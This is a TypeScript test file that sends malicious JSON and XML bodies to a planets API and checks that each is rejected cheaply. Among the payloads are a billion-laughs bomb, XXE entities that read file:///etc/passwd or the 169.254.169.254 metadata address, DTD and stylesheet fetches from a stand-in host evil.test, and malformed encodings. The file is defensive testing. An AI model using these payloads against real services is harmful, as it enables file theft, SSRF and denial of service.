import { beforeAll, describe, expect, it } from 'vitest'
import { ENTITY_MAX_BYTES } from '../../../src/domain/limits.ts'
import { type Account, authorization, type Client, createAccount, createClient } from '../../support/app.ts'
import { XSI } from '../../support/xml.ts'

// Malicious bodies. Each is rejected with a small response, and the service continues to work.

const JSON_TYPE = 'application/json'
const XML_TYPE = 'application/xml'

// The most that a refusal may cost: a quarter of the body limit, or a few times what was sent.
const ANSWER_MAX_BYTES = ENTITY_MAX_BYTES / 4
const ANSWER_MAX_TIMES = 4

let client: Client
let account: Account

beforeAll(async () => {
  client = createClient()
  account = await createAccount(client)
})

type Body = string | Uint8Array<ArrayBuffer>
type Attack = [name: string, body: Body, expected?: { status?: number; detail?: RegExp }]

const encode = (text: string) => new Uint8Array(new TextEncoder().encode(text))

/** Repeats a unit as often as fits into a body between a head and a tail. */
function fill(unit: string | ((index: number) => string), head = '', tail = ''): string {
  const room = ENTITY_MAX_BYTES - byteLengthOf(head + tail)
  if (typeof unit === 'string') return head + unit.repeat(Math.floor(room / byteLengthOf(unit))) + tail
  const parts: string[] = []
  for (let size = 0, index = 0; ; index++) {
    const part = unit(index)
    size += byteLengthOf(part)
    if (size > room) return head + parts.join('') + tail
    parts.push(part)
  }
}

const byteLengthOf = (text: string) => Buffer.byteLength(text)

/** The bytes of a text in an encoding with a fixed number of bytes for a character. */
function widen(text: string, width: 2 | 4, littleEndian: boolean, mark: boolean): Uint8Array<ArrayBuffer> {
  const characters = Array.from(mark ? `\ufeff${text}` : text, (character) => character.charCodeAt(0))
  const view = new DataView(new ArrayBuffer(characters.length * width))
  for (const [index, code] of characters.entries()) {
    if (width === 2) view.setUint16(index * width, code, littleEndian)
    else view.setUint32(index * width, code, littleEndian)
  }
  return new Uint8Array(view.buffer)
}

/** A text in which the sign § stands for bytes that are invalid in UTF-8. */
function corrupt(text: string, ...bytes: number[]): Uint8Array<ArrayBuffer> {
  const [before = '', after = ''] = text.split('§')
  return new Uint8Array([...encode(before), ...bytes, ...encode(after)])
}

/** For any format: the bytes of a planet whose name is not valid UTF-8, or only in part. */
function encodingAttacks(planet: (name: string) => string): Attack[] {
  const utf8 = { detail: /UTF-8|U\+0000/ }
  return [
    ...([2, 4] as const).flatMap((width) =>
      [true, false].flatMap((littleEndian) =>
        [true, false].map((mark): Attack => {
          const order = littleEndian ? 'little end first' : 'big end first'
          const name = `UTF-${width * 8}, ${order}, ${mark ? 'with' : 'without'} its mark`
          return [name, widen(planet('Terra'), width, littleEndian, mark), mark ? utf8 : {}]
        }),
      ),
    ),
    ['an overlong "/"', corrupt(planet('§'), 0xc0, 0xaf), utf8],
    ['an overlong "<" of three bytes', corrupt(planet('§'), 0xe0, 0x80, 0xbc), utf8],
    ['an overlong U+0000', corrupt(planet('§'), 0xc0, 0x80), utf8],
    ['a surrogate', corrupt(planet('§'), 0xed, 0xa0, 0x80), utf8],
    ['a pair of surrogates (CESU-8)', corrupt(planet('§'), 0xed, 0xa0, 0xbe, 0xed, 0xba, 0x90), utf8],
    ['beyond Unicode', corrupt(planet('§'), 0xf4, 0x90, 0x80, 0x80), utf8],
    ['a sequence of five bytes', corrupt(planet('§'), 0xf8, 0x88, 0x80, 0x80, 0x80), utf8],
    ['a continuation byte without a start', corrupt(planet('§'), 0x80), utf8],
    ['a truncated sequence', corrupt(planet('§'), 0xf0, 0x9f, 0xaa), utf8],
    ['a sequence truncated by the end of the body', new Uint8Array([...encode(planet('a')), 0xe7, 0x81]), utf8],
    ['ISO 8859-1', corrupt(planet('§'), 0xe9), utf8],
    ['U+0000', planet('a\u0000b')],
    ['U+0000 after the end', `${planet('a')}\u0000`],
    ['nothing but U+0000', '\u0000'.repeat(ENTITY_MAX_BYTES)],
    ['nothing but byte order marks', fill('\ufeff')],
    ['UTF-7', planet('a').replaceAll('<', '+ADw-').replaceAll('{', '+AHs-').replaceAll('"', '+ACI-')],
    ['one byte too much', planet('a').padEnd(ENTITY_MAX_BYTES + 1), { status: 413 }],
  ]
}

/** What is no attack in XML: processors must read it (XML 1.0, section 4.3.3). */
const MARKED_UTF_16 = /^UTF-16, .* with its mark$/

const xmlPlanet = (name: string) => `<planet><name>${name}</name></planet>`
const withDoctype = (declarations: string, name = '') => `<!DOCTYPE planet [${declarations}]>${xmlPlanet(name)}`
const laughs = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('')
const doctype = { detail: /DOCTYPE/ }
const longNames = Array.from({ length: 5 }, (_, index) => `${index}`.padStart(198, 'n'))

const xmlAttacks: Attack[] = [
  ['a billion laughs', withDoctype(`<!ENTITY l0 "lol">${laughs}`, '&l9;'), doctype],
  ['quadratic blowup', withDoctype(`<!ENTITY a "${'a'.repeat(50_000)}">`, '&a;'.repeat(50_000)), doctype],
  ['an external entity that names a file', withDoctype('<!ENTITY x SYSTEM "file:///etc/passwd">', '&x;'), doctype],
  ['an external entity that names a URL', withDoctype('<!ENTITY x SYSTEM "http://169.254.169.254/">', '&x;'), doctype],
  ['a parameter entity', withDoctype('<!ENTITY % x SYSTEM "http://evil.test/x.dtd">%x;'), doctype],
  ['a DTD that names a URL', `<!DOCTYPE planet SYSTEM "http://evil.test/x.dtd">${xmlPlanet('a')}`, doctype],
  ['a DOCTYPE that never ends', fill('[', '<!DOCTYPE planet '), doctype],
  ['DOCTYPEs and nothing else', fill('<!DOCTYPE a>'), doctype],
  ['an entity that refers to itself', withDoctype('<!ENTITY a "&a;">', '&a;'), doctype],
  [
    'an inclusion',
    `<planet xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></planet>`,
  ],
  ['a style sheet', `<?xml-stylesheet href="http://evil.test/x.xsl"?>${xmlPlanet('a')}`, { detail: /instruction/ }],
  ['10,000 levels', '<a>'.repeat(10_000) + '</a>'.repeat(10_000), { detail: /levels deep/ }],
  ['as many nested elements as fit', fill('<a>'), { detail: /levels deep/ }],
  ['as many end tags as fit', fill('</a>')],
  ['as many elements as fit', fill('<a/>', '<planet>', '</planet>')],
  ['as many elements with different names as fit', fill((i) => `<a${i}/>`, '<planet>', '</planet>')],
  ['as many satellites as fit', fill('<satellites/>', '<planet>', '</planet>')],
  ['as many towers of elements as fit', fill('<b>'.repeat(31) + '</b>'.repeat(31), '<planet>', '</planet>')],
  ['as many attributes as fit', fill((i) => ` a${i}=""`, '<planet', '><name>a</name></planet>'), { status: 201 }],
  ['as many attributes with one name as fit', fill(' a=""', '<planet', '/>'), { detail: /repeated/ }],
  ['one attribute that fills the body', fill('a', '<planet a="', '"/>')],
  ['one attribute of references', fill('&amp;', '<planet a="', '"/>')],
  ['one attribute that never ends', fill('&amp;', '<planet a="')],
  ['as many attributes as fit in a tag that never ends', fill((i) => ` a${i}=""`, '<planet')],
  ['elements with attributes', fill('<b c="d" e="f"/>', '<planet>', '</planet>')],
  ['as many namespaces as fit', fill((i) => ` xmlns:a${i}="urn:${i}"`, '<planet', '/>')],
  ['as many prefixes for xsi:nil as fit', fill((i) => ` xmlns:a${i}="${XSI}"`, '<planet', '/>')],
  [
    'many prefixes for xsi:nil, and elements that declare more',
    fill(
      `<b xmlns:q="${XSI}"/>`,
      fill((i) => ` xmlns:a${i}="${XSI}"`, '<planet')
        .slice(0, 100_000)
        .replace(/[^"]*$/, '>'),
      '</planet>',
    ),
  ],
  ['references', fill('&amp;', '<planet><name>', '</name></planet>')],
  ['references and nothing else', fill('&amp;')],
  ['references to characters', fill('&#x41;', '<planet><name>', '</name></planet>')],
  ['ampersands that start no reference', fill('&', '<planet><name>', '</name></planet>')],
  ['ends of CDATA sections', fill(']]>', '<planet><name>', '</name></planet>')],
  ['brackets', fill(']', '<planet><name>', '</name></planet>')],
  ['beginnings of CDATA sections', fill('<![CDATA[', '<planet>')],
  ['empty CDATA sections', fill('<![CDATA[]]>', '<planet><name>', '</name></planet>')],
  ['beginnings of comments', fill('<!--')],
  ['empty comments', fill('<!---->', '<planet><name>', '</name></planet>')],
  ['a comment of hyphens', fill('-', '<!--', '--><planet/>')],
  ['a comment of single hyphens', fill('- ', '<!--', '--><planet/>')],
  ['a comment that never ends', fill('- ', '<!--')],
  ['a comment that fills the body', fill('a', '<!--', '--><planet/>')],
  ['beginnings of instructions', fill('<?')],
  ['beginnings of tags', fill('<')],
  ['one name', fill('a', '<', '/>')],
  ['one name that never ends', fill('a', '<')],
  ['one name of prefixes', fill('a:', '<', 'a/>')],
  ['one name of escapes', fill('_x0041_', '<planet><', '/></planet>')],
  ['one name that is closed by another', fill('a', '<', '></b>')],
  ['nested names of escapes', `${`<${'_x0041_'.repeat(1000)}>`.repeat(32)}`],
  ['spaces in a tag', fill(' ', '<planet', '><name>a</name></planet>'), { status: 201 }],
  ['spaces in a tag that never ends', fill(' ', '<planet')],
  ['spaces before an attribute that never comes', fill(' ', '<planet a="b"', 'c')],
  ['spaces around the equals signs of attributes', fill((i) => `  a${i}  =  ""  `, '<planet', 'x')],
  ['spaces in an end tag that never ends', fill(' ', '<planet></planet')],
  ['spaces in a declaration that never ends', fill(' ', '<?xml version="1.0"')],
  ['line feeds before an error', fill('\n', '<planet>', '&')],
  ['line feeds between elements', fill('\n<b/>', '<planet>', '</planet>')],
  ['texts between elements', fill('a<b/>', '<planet><name>', '</name></planet>')],
  ['the digits of a number', fill('9', '<planet><name>a</name><habitabilityIndex>', '</habitabilityIndex></planet>')],
  ['many digits in an invalid number', fill('9', '<planet><habitabilityIndex>', 'x</habitabilityIndex></planet>')],
  ['zeros of an exponent', fill('0', '<planet><habitabilityIndex>1e', '9</habitabilityIndex></planet>')],
  ['spaces in a number', fill(' ', '<planet><habitabilityIndex>1', '1</habitabilityIndex></planet>')],
  [
    'repeated additional names',
    fill((i) => `<a${i >> 1}/>`, '<planet><physicalProperties>', '</physicalProperties></planet>'),
  ],
  [
    'errors below long names',
    `<planet>${longNames.map((name) => `<${name}>`).join('')}${'<b>x<c/></b>'.repeat(200)}${longNames
      .toReversed()
      .map((name) => `</${name}>`)
      .join('')}</planet>`,
  ],
  ['a gigabyte, compressed', new Uint8Array([0x1f, 0x8b, 0x08, 0, 0, 0, 0, 0, 0, 3])],
]

const jsonAttacks: Attack[] = [
  ['10,000 lists', '['.repeat(10_000) + ']'.repeat(10_000), { detail: /levels deep/ }],
  ['10,000 objects', `${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}`, { detail: /levels deep/ }],
  ['as many lists as fit, never closed', fill('[')],
  ['as many objects as fit, never closed', fill('{"a":')],
  ['as many satellites as fit', fill('{},', '{"satellites":[', '{}]}')],
  ['as many members as fit', fill((i) => `"a${i}":0,`, '{', '"a":0}')],
  ['as many members with one name as fit', fill('"a":0,', '{', '"a":0}')],
  ['one name', fill('a', '{"', '":0}')],
  ['one name full of escapes', fill('\\u0041', '{"', '":0}')],
  ['one text', fill('a', '{"name":"', '"}')],
  ['one string full of escapes', fill('\\"', '{"name":"', '"}')],
  ['one string that never ends', fill('\\"', '{"name":"')],
  ['spaces', fill(' ', '{', '}')],
  ['line feeds before an error', fill('\n', '', 'x')],
  ['the digits of a number', fill('9', '{"name":"a","habitabilityIndex":', '}')],
  ['the digits of a number that never ends', fill('9', '{"habitabilityIndex":', 'e')],
  ['a number beyond the range of a double', '{"name":"a","physicalProperties":{"x":1e999}}'],
  ['a satellite of a satellite of a satellite', fill('{"satellites":[')],
  ['__proto__ in every place', fill('{"__proto__":1},', '{"name":"a","satellites":[', '{}]}')],
  ['errors in as many members as allowed', JSON.stringify({ tags: Array.from({ length: 1000 }, () => 0) })],
  [
    'errors below long names',
    longNames.reduceRight((inner, name) => `{"${name}":${inner}}`, `[${'"\\u0000",'.repeat(200)}0]`),
  ],
  [
    'errors below names that grow when they are escaped',
    longNames.reduceRight(
      (inner) => `{"${'&"<'.repeat(65).replaceAll('"', '\\"')}":${inner}}`,
      `[${'"\\u0000",'.repeat(200)}0]`,
    ),
  ],
]

describe.each([
  [
    'JSON',
    JSON_TYPE,
    [...encodingAttacks((name) => JSON.stringify({ name }).replace('\\u0000', '\u0000')), ...jsonAttacks],
  ],
  ['XML', XML_TYPE, [...encodingAttacks(xmlPlanet).filter(([name]) => !MARKED_UTF_16.test(name)), ...xmlAttacks]],
] as const)('%s', (_, type, attacks) => {
  it.each<Attack>(attacks)('%s', async (_, body, { status = 400, detail } = {}) => {
    const bytes = typeof body === 'string' ? encode(body) : body
    expect(bytes.byteLength).toBeLessThanOrEqual(ENTITY_MAX_BYTES + Number(status === 413))
    for (const accept of [JSON_TYPE, XML_TYPE]) {
      const response = await post(bytes, { 'Content-Type': type, Accept: accept })
      const answer = await response.text()
      expect(response.status).toBe(status)
      expect(encode(answer).byteLength).toBeLessThanOrEqual(
        Math.max(ANSWER_MAX_BYTES, ANSWER_MAX_TIMES * bytes.byteLength),
      )
      if (detail) expect(answer).toMatch(detail)
      expect(answer).not.toMatch(/root:|lollol/)
    }
    expect((await post(encode('{"name":"Still here"}'), { 'Content-Type': JSON_TYPE })).status).toBe(201)
    expect((await post(encode(xmlPlanet('Still here')), { 'Content-Type': XML_TYPE })).status).toBe(201)
  })
})

describe('a body with a wrong charset is rejected, and nothing is guessed', () => {
  const utf16 = widen(xmlPlanet('Terra'), 2, true, true)

  it.each<[string, string, Body]>([
    ['UTF-16 declared as UTF-8', 'application/xml; charset=utf-8', utf16],
    ['UTF-16 in JSON, declared as UTF-16', 'application/json; charset=utf-16', widen('{"name":"a"}', 2, true, true)],
    ['UTF-8 declared as UTF-16', 'application/xml; charset=utf-16', xmlPlanet('Terra')],
    ['UTF-8 declared as ISO 8859-1', 'text/xml; charset=iso-8859-1', xmlPlanet('Tërra')],
    ['UTF-8 declared as ASCII', 'text/xml; charset=us-ascii', xmlPlanet('Tërra')],
    ['UTF-8 declared as UTF-7', 'application/xml; charset="UTF-7"', xmlPlanet('+ADw-b/+AD4-')],
    ['UTF-8 with an empty charset', 'application/xml; charset=', xmlPlanet('Terra')],
    ['a document that declares UTF-16', XML_TYPE, `<?xml version="1.0" encoding="UTF-16"?>${xmlPlanet('Terra')}`],
    ['a document that declares UTF-7', XML_TYPE, `<?xml version="1.0" encoding="UTF-7"?>${xmlPlanet('+ADw-b/+AD4-')}`],
    ['a document that declares EBCDIC', XML_TYPE, `<?xml version="1.0" encoding="IBM037"?>${xmlPlanet('Terra')}`],
    [
      'ISO 8859-1 declared as such',
      XML_TYPE,
      corrupt(`<?xml version="1.0" encoding="ISO-8859-1"?>${xmlPlanet('T§rra')}`, 0xeb),
    ],
    [
      'ISO 8859-1 declared as UTF-8',
      XML_TYPE,
      corrupt(`<?xml version="1.0" encoding="UTF-8"?>${xmlPlanet('T§rra')}`, 0xeb),
    ],
    [
      'a UTF-8 byte order mark before a document that declares UTF-16',
      XML_TYPE,
      `\ufeff<?xml version="1.0" encoding="UTF-16"?><a/>`,
    ],
    [
      'UTF-8 in the document, UTF-16 in the header',
      'application/xml; charset=utf-16',
      `<?xml version="1.0" encoding="UTF-8"?>${xmlPlanet('Terra')}`,
    ],
  ])('%s', async (_, type, body) => {
    const response = await post(typeof body === 'string' ? encode(body) : body, { 'Content-Type': type })
    expect(response.status).toBe(400)
  })
})

function post(body: Uint8Array<ArrayBuffer>, headers: Record<string, string>): Promise<Response> {
  return client.send('/planets', { method: 'POST', body, headers: { ...authorization(account), ...headers } })
}
